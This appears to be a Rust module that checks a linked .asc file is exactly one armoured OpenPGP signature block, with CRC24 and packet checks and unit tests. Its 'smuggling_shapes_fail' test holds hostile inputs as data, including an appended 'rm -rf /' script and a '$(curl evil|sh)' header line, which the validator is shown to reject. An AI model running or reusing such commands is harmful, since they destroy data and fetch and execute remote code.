//! The shape of a linked `.asc`: exactly one ASCII-armoured OpenPGP signature block
//! (RFC 9580 §6.2) and nothing else. airlock does not verify OpenPGP signatures; this only
//! makes sure that what travels as `<artifact>.asc` is a signature block, so the file
//! cannot carry other content past an artifact rule (POLICY.md).
//!
//! ```text
//! -----BEGIN PGP SIGNATURE-----
//! Key: value                        <- armour headers, optional
//!                                   <- one empty line
//! iQEzBAABCAAdFiEE...               <- base64, lines of at most 76 characters
//! =njUN                             <- CRC24 of the decoded body, optional
//! -----END PGP SIGNATURE-----
//! ```
//!
//! Lines end in `\n` or `\r\n`; the end line may lack its line ending; nothing may follow
//! it. The decoded body must be one or more complete OpenPGP signature packets (tag 2), and
//! the CRC24, when present, must match it.

use base64::engine::general_purpose::STANDARD as BASE64;
use base64::Engine as _;

const BEGIN: &str = "-----BEGIN PGP SIGNATURE-----";
const END: &str = "-----END PGP SIGNATURE-----";
/// Longest armour header line: a comment is free text, kept to one short line (the same
/// bound as a signify comment).
const MAX_HEADER_LINE: usize = 1024;
/// RFC 9580 §6.3: armoured lines MUST NOT be longer than 76 characters.
const MAX_BODY_LINE: usize = 76;
/// The OpenPGP packet tag of a signature packet.
const SIGNATURE_TAG: u8 = 2;

/// Why a linked `.asc` is not exactly one armoured signature block.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ArmorError {
    /// Not UTF-8.
    #[error("is not UTF-8 text")]
    NotText,
    /// The first line is not the BEGIN line (text before it, or another armour kind).
    #[error("line 1 is not {BEGIN:?} (found {found:?})")]
    NoBegin {
        /// The first line, cut to a readable length.
        found: String,
    },
    /// An armour header line that is not `Key: value` with a printable value.
    #[error("line {line} is not an armour header `Key: value` of at most {MAX_HEADER_LINE} bytes without control characters (found {found:?})")]
    BadHeader {
        /// 1-based line number.
        line: usize,
        /// The line, cut to a readable length.
        found: String,
    },
    /// A line inside the body that is not base64 of at most 76 characters.
    #[error("line {line} is not a base64 line of at most {MAX_BODY_LINE} characters (found {found:?})")]
    BadBodyLine {
        /// 1-based line number.
        line: usize,
        /// The line, cut to a readable length.
        found: String,
    },
    /// The body lines do not decode as base64.
    #[error("its base64 body does not decode: {0}")]
    Base64(String),
    /// No body at all.
    #[error("has no base64 body")]
    EmptyBody,
    /// The CRC24 line is malformed or does not match the body.
    #[error("its CRC24 line {found:?} {problem}")]
    Crc {
        /// The line, cut to a readable length.
        found: String,
        /// What is wrong with it.
        problem: &'static str,
    },
    /// The file ends before the END line.
    #[error("has no {END:?} line")]
    NoEnd,
    /// Where the END line belongs, another line.
    #[error("line {line} is not {END:?} (found {found:?})")]
    NotEnd {
        /// 1-based line number.
        line: usize,
        /// The line, cut to a readable length.
        found: String,
    },
    /// Lines after the END line: a second block, a script, anything.
    #[error("{count} line(s) follow its {END:?} line (line {end_line}); nothing may")]
    AfterEnd {
        /// How many lines follow.
        count: usize,
        /// The END line's 1-based number.
        end_line: usize,
    },
    /// The decoded body is not a sequence of complete signature packets.
    #[error("its body is not OpenPGP signature packets: {0}")]
    NotSignaturePackets(&'static str),
}

/// Checks that `bytes` is exactly one armoured OpenPGP signature block.
pub fn check_armored_signature(bytes: &[u8]) -> Result<(), ArmorError> {
    let text = std::str::from_utf8(bytes).map_err(|_| ArmorError::NotText)?;
    let lines = split_lines(text);
    let mut at = 0;
    if lines.first() != Some(&BEGIN) {
        return Err(ArmorError::NoBegin { found: shorten(lines.first().copied().unwrap_or("")) });
    }
    at += 1;
    while at < lines.len() && !lines[at].is_empty() {
        check_header(lines[at]).map_err(|()| ArmorError::BadHeader { line: at + 1, found: shorten(lines[at]) })?;
        at += 1;
    }
    // The empty line that ends the headers.
    at += 1;
    let body_start = at;
    while at < lines.len() && !lines[at].starts_with('=') && !lines[at].starts_with('-') {
        check_body_line(lines[at]).map_err(|()| ArmorError::BadBodyLine { line: at + 1, found: shorten(lines[at]) })?;
        at += 1;
    }
    if at == body_start {
        return Err(if at >= lines.len() { ArmorError::NoEnd } else { ArmorError::EmptyBody });
    }
    let body = BASE64.decode(lines[body_start..at].concat()).map_err(|e| ArmorError::Base64(e.to_string()))?;
    if at < lines.len() && lines[at].starts_with('=') {
        check_crc(lines[at], &body)?;
        at += 1;
    }
    if lines.get(at) != Some(&END) {
        return Err(match lines.get(at) {
            None => ArmorError::NoEnd,
            Some(line) => ArmorError::NotEnd { line: at + 1, found: shorten(line) },
        });
    }
    let after = lines.len() - at - 1;
    if after > 0 {
        return Err(ArmorError::AfterEnd { count: after, end_line: at + 1 });
    }
    check_signature_packets(&body).map_err(ArmorError::NotSignaturePackets)
}

/// The lines of `text`, each without its `\n` or `\r\n`; one final line ending is allowed
/// and yields no empty last line.
fn split_lines(text: &str) -> Vec<&str> {
    let body = text.strip_suffix('\n').unwrap_or(text);
    body.split('\n').map(|l| l.strip_suffix('\r').unwrap_or(l)).collect()
}

/// `Key: value`: a key of ASCII letters, digits and `-`, then `: `, then a value without
/// control characters, at most [`MAX_HEADER_LINE`] bytes in all.
fn check_header(line: &str) -> Result<(), ()> {
    if line.len() > MAX_HEADER_LINE {
        return Err(());
    }
    let (key, value) = line.split_once(": ").ok_or(())?;
    let key_ok = !key.is_empty() && key.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-');
    let value_ok = !value.chars().any(char::is_control);
    if key_ok && value_ok {
        Ok(())
    } else {
        Err(())
    }
}

fn check_body_line(line: &str) -> Result<(), ()> {
    let base64_chars = line.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'='));
    if !line.is_empty() && line.len() <= MAX_BODY_LINE && base64_chars {
        Ok(())
    } else {
        Err(())
    }
}

/// `=` and four base64 characters: the CRC24 of the decoded body (RFC 9580 §6.1).
fn check_crc(line: &str, body: &[u8]) -> Result<(), ArmorError> {
    let crc = |problem| ArmorError::Crc { found: shorten(line), problem };
    let digits =
        line.strip_prefix('=').filter(|d| d.len() == 4).ok_or_else(|| crc("is not `=` and 4 base64 characters"))?;
    let stored = BASE64.decode(digits).map_err(|_| crc("is not `=` and 4 base64 characters"))?;
    if stored[..] != crc24(body).to_be_bytes()[1..] {
        return Err(crc("does not match the body"));
    }
    Ok(())
}

fn crc24(data: &[u8]) -> u32 {
    const INIT: u32 = 0x00B7_04CE;
    const POLY: u32 = 0x0186_4CFB;
    let mut crc = INIT;
    for &byte in data {
        crc ^= u32::from(byte) << 16;
        for _ in 0..8 {
            crc <<= 1;
            if crc & 0x0100_0000 != 0 {
                crc ^= POLY;
            }
        }
    }
    crc & 0x00FF_FFFF
}

/// One or more complete packets (RFC 9580 §4.2), each a signature packet (tag 2) of a known
/// version (3 to 6) with a definite length; nothing after the last.
fn check_signature_packets(mut body: &[u8]) -> Result<(), &'static str> {
    if body.is_empty() {
        return Err("it is empty");
    }
    while !body.is_empty() {
        let (tag, len, header) = packet_header(body)?;
        if tag != SIGNATURE_TAG {
            return Err("a packet is not a signature packet (tag 2)");
        }
        let packet = body.get(header..).and_then(|rest| rest.get(..len)).ok_or("a packet is cut short")?;
        if !matches!(packet.first(), Some(3..=6)) {
            return Err("a signature packet has no known version (3 to 6)");
        }
        body = &body[header + len..];
    }
    Ok(())
}

/// A packet header: (tag, body length, header length).
fn packet_header(p: &[u8]) -> Result<(u8, usize, usize), &'static str> {
    const CUT: &str = "a packet header is cut short";
    let first = *p.first().ok_or(CUT)?;
    if first & 0x80 == 0 {
        return Err("a packet header does not have its high bit set");
    }
    let byte = |i: usize| p.get(i).copied().map(usize::from).ok_or(CUT);
    if first & 0x40 != 0 {
        let tag = first & 0x3f;
        match byte(1)? {
            len @ 0..=191 => Ok((tag, len, 2)),
            o1 @ 192..=223 => Ok((tag, ((o1 - 192) << 8) + byte(2)? + 192, 3)),
            255 => Ok((tag, (byte(2)? << 24) | (byte(3)? << 16) | (byte(4)? << 8) | byte(5)?, 6)),
            _ => Err("a packet has a partial body length, which a signature packet may not"),
        }
    } else {
        let tag = (first >> 2) & 0x0f;
        match first & 0x03 {
            0 => Ok((tag, byte(1)?, 2)),
            1 => Ok((tag, (byte(1)? << 8) | byte(2)?, 3)),
            2 => Ok((tag, (byte(1)? << 24) | (byte(2)? << 16) | (byte(3)? << 8) | byte(4)?, 5)),
            _ => Err("a packet has an indeterminate length, which a signature packet may not"),
        }
    }
}

/// Hostile text made readable for a message: at most 80 characters (the message prints it
/// with `{:?}`, which escapes control characters).
fn shorten(text: &str) -> String {
    const MAX_CHARS: usize = 80;
    match text.char_indices().nth(MAX_CHARS) {
        Some((cut, _)) => format!("{}…", &text[..cut]),
        None => text.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A v4 signature packet (new format, tag 2) of `len` body bytes.
    fn packet(len: usize) -> Vec<u8> {
        assert!(len < 192);
        let mut p = vec![0xC2, len as u8, 4];
        p.resize(2 + len, 0x5a);
        p
    }

    fn armor(body: &[u8], headers: &[&str], crc: bool) -> String {
        let mut out = format!("{BEGIN}\n");
        for h in headers {
            out.push_str(h);
            out.push('\n');
        }
        out.push('\n');
        let b64 = BASE64.encode(body);
        for chunk in b64.as_bytes().chunks(64) {
            out.push_str(std::str::from_utf8(chunk).unwrap());
            out.push('\n');
        }
        if crc {
            out.push('=');
            out.push_str(&BASE64.encode(&crc24(body).to_be_bytes()[1..]));
            out.push('\n');
        }
        out.push_str(END);
        out.push('\n');
        out
    }

    #[test]
    fn crc24_matches_the_rfc_reference() {
        // RFC 4880 §6.1's algorithm over "123456789" gives 0x21CF02.
        assert_eq!(crc24(b"123456789"), 0x21CF02);
    }

    #[test]
    fn exact_blocks_pass() {
        let body = [packet(100), packet(150)].concat();
        check_armored_signature(armor(&body, &[], true).as_bytes()).unwrap();
        check_armored_signature(armor(&body, &["Version: GnuPG v2", "Comment: x y z"], false).as_bytes()).unwrap();
        let crlf = armor(&body, &["Comment: c"], true).replace('\n', "\r\n");
        check_armored_signature(crlf.as_bytes()).unwrap();
        let no_final_newline = armor(&body, &[], true);
        check_armored_signature(no_final_newline.trim_end().as_bytes()).unwrap();
        // Old-format header, two-byte length.
        let mut old = vec![0x89, 0x00, 150, 4];
        old.resize(3 + 150, 1);
        check_armored_signature(armor(&old, &[], true).as_bytes()).unwrap();
    }

    #[test]
    fn smuggling_shapes_fail() {
        let good = armor(&packet(100), &[], true);
        let cases: Vec<(String, &str)> = vec![
            (format!("{good}#!/bin/sh\nrm -rf /\n"), "follow its"),
            (format!("{good}{good}"), "follow its"),
            (format!("#!/bin/sh\n{good}"), "line 1 is not"),
            (format!("{good}\n"), "follow its"),
            (good.replace("\n\n", "\n$(curl evil|sh)\n\n"), "armour header"),
            (good.replace("\n\n", &format!("\nComment: {}\n\n", "x".repeat(2000))), "armour header"),
            (good.replace(END, "-----END PGP MESSAGE-----"), "is not \"-----END PGP SIGNATURE-----\""),
            (good.replace(END, ""), "is not \"-----END PGP SIGNATURE-----\""),
            (good.replace(&format!("{END}\n"), ""), "has no"),
        ];
        for (text, want) in cases {
            let err = check_armored_signature(text.as_bytes()).expect_err(&text).to_string();
            assert!(err.contains(want), "{text:?}: {err}");
        }
    }

    #[test]
    fn the_body_must_be_signature_packets_with_a_matching_crc() {
        let not_sig = [0xCB, 3, 1, 2, 3]; // a literal data packet
        assert!(check_armored_signature(armor(&not_sig, &[], false).as_bytes())
            .unwrap_err()
            .to_string()
            .contains("tag 2"));
        let cut = &packet(100)[..50];
        assert!(check_armored_signature(armor(cut, &[], false).as_bytes())
            .unwrap_err()
            .to_string()
            .contains("cut short"));
        let mut trailing = packet(100);
        trailing.push(0);
        assert!(check_armored_signature(armor(&trailing, &[], false).as_bytes()).is_err());
        let good = armor(&packet(100), &[], true);
        let crc_line = good.lines().find(|l| l.starts_with('=')).unwrap();
        let bad_crc = good.replace(crc_line, "=AAAA");
        assert!(check_armored_signature(bad_crc.as_bytes()).unwrap_err().to_string().contains("does not match"));
        let long_line = armor(&[packet(150), packet(150)].concat(), &[], false).replace('\n', "");
        assert!(check_armored_signature(long_line.as_bytes()).is_err());
    }
}
